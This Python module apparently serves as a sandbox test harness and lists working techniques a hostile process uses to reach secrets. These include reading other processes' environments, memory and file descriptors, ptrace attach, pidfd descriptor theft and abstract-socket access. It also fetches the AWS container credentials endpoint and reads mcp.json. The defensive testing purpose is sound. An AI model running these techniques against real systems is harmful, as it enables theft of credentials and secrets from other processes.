"""What a hostile program tries in order to get at secrets: each trick is a row, and returns whatever it could read.

Nothing of ours is imported: `hostile.py` and the test's control run this file as it is.
"""

from __future__ import annotations

import ctypes
import glob
import os
import socket
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path

SECRET = b"s3cret"
TAKEN = "s3cret was within reach"
ABSTRACT_NAME = "\0forge-secret-of-the-parent"
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
PROCESS_VM_READV, PIDFD_OPEN, PIDFD_GETFD = 310, 434, 438
LARGEST = 1 << 22
LIBC = ctypes.CDLL(None, use_errno=True)


def others() -> list[int]:
    return [int(pid) for pid in os.listdir("/proc") if pid.isdigit() and int(pid) != os.getpid()]


def read(pattern: str) -> str:
    found = b""
    for path in glob.glob(pattern):
        try:
            descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        except OSError:
            continue
        try:
            found += os.read(descriptor, LARGEST)
        except OSError:
            pass
        finally:
            os.close(descriptor)
    return found.decode(errors="replace")


def writable_regions(pid: int) -> Iterator[tuple[int, int]]:
    for line in Path(f"/proc/{pid}/maps").read_text().splitlines():
        span, rights, *_ = line.split()
        first, last = (int(end, 16) for end in span.split("-"))
        if rights.startswith("rw"):
            yield first, min(last, first + LARGEST)


def memory_files() -> str:
    for pid in others():
        try:
            with open(f"/proc/{pid}/mem", "rb", 0) as memory:
                for first, last in writable_regions(pid):
                    memory.seek(first)
                    if SECRET in (memory.read(last - first) or b""):
                        return TAKEN
        except (OSError, ValueError, OverflowError):
            continue
    return ""


class Piece(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


def memory_calls() -> str:
    """Without /proc/PID/maps the addresses have to be guessed, but the kernel's answer tells whether it may read."""
    here = ctypes.create_string_buffer(8)
    ours = Piece(ctypes.addressof(here), 8)
    for pid in {os.getppid(), *others()}:
        theirs = Piece(0x1000, 8)
        ctypes.set_errno(0)
        LIBC.syscall(PROCESS_VM_READV, pid, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)
        if ctypes.get_errno() == 14:  # EFAULT: only the address was wrong
            return TAKEN
    return ""


def tracing() -> str:
    for pid in others():
        if LIBC.ptrace(PTRACE_ATTACH, pid, None, None) == 0:
            os.waitpid(pid, 0x40000000)
            LIBC.ptrace(PTRACE_DETACH, pid, None, None)
            return TAKEN
    return ""


def taking_descriptors() -> str:
    for pid in others():
        handle = LIBC.syscall(PIDFD_OPEN, pid, 0)
        if handle >= 0:
            taken = [LIBC.syscall(PIDFD_GETFD, handle, number, 0) for number in range(3, 32)]
            os.close(handle)
            if any(number >= 0 for number in taken):
                return TAKEN
    return ""


def own_descriptors() -> str:
    found = b""
    for number in range(3, 256):
        try:
            os.set_blocking(number, False)
            found += os.read(number, LARGEST)
        except OSError:
            continue
    return found.decode(errors="replace")


def links() -> str:
    """Where the descriptors, the folder and the root of others lead."""
    reached = ""
    for pid in others():
        for path in (
            f"/proc/{pid}/cwd",
            f"/proc/{pid}/root",
            f"/proc/{pid}/exe",
            *glob.glob(f"/proc/{pid}/fd/*"),
        ):
            try:
                reached += os.readlink(path) + "\n"
            except OSError:
                continue
    return TAKEN if reached else ""


def sockets_of_others() -> str:
    with socket.socket(socket.AF_UNIX) as stream:
        try:
            stream.connect(ABSTRACT_NAME)
            return stream.recv(100).decode()
        except OSError:
            return ""


def credentials_endpoint() -> str:
    """As the SDKs find it."""
    where = os.environ.get("AWS_CONTAINER_CREDENTIALS_FULL_URI") or next(
        (
            word.partition("=")[2]
            for word in read("/proc/[0-9]*/environ").split("\0")
            if "CREDENTIALS_FULL_URI" in word
        ),
        "",
    )
    if not where:
        return ""
    with urllib.request.urlopen(where, timeout=60) as answer:
        return answer.read().decode()


def signals() -> str:
    """Only who may signal the worker may end it."""
    for pid in others():
        try:
            os.kill(pid, 0)
        except OSError:
            continue
        return TAKEN
    return ""


TRICKS: dict[str, Callable[[], str]] = {
    "its own environment": lambda: repr(dict(os.environ)),
    "the environment of every process": lambda: read("/proc/[0-9]*/environ"),
    "the environment of every thread": lambda: read("/proc/[0-9]*/task/*/environ"),
    "the command line of every process": lambda: read("/proc/[0-9]*/cmdline"),
    "the memory of every process, as a file": memory_files,
    "the memory of every process, by a call": memory_calls,
    "tracing every process": tracing,
    "the descriptors of every process": taking_descriptors,
    "what every descriptor leads to": lambda: read("/proc/[0-9]*/fd/*"),
    "where the links of every process lead": links,
    "descriptors that it has inherited": own_descriptors,
    "sockets of its parents without a file": sockets_of_others,
    "the endpoint of the role's credentials": credentials_endpoint,
    "signals to every process": signals,
    "the files of the application": lambda: read("mcp.json") + read("/proc/[0-9]*/cwd/mcp.json"),
    "its place in the system": lambda: (
        read("/proc/self/status") + read("/proc/self/mountinfo") + read("/dev/shm/*")
    ),
}


def tried(name: str) -> str:
    try:
        return TRICKS[name]()
    except Exception as error:  # noqa: BLE001  a trick that fails has brought nothing
        return f"{type(error).__name__}"
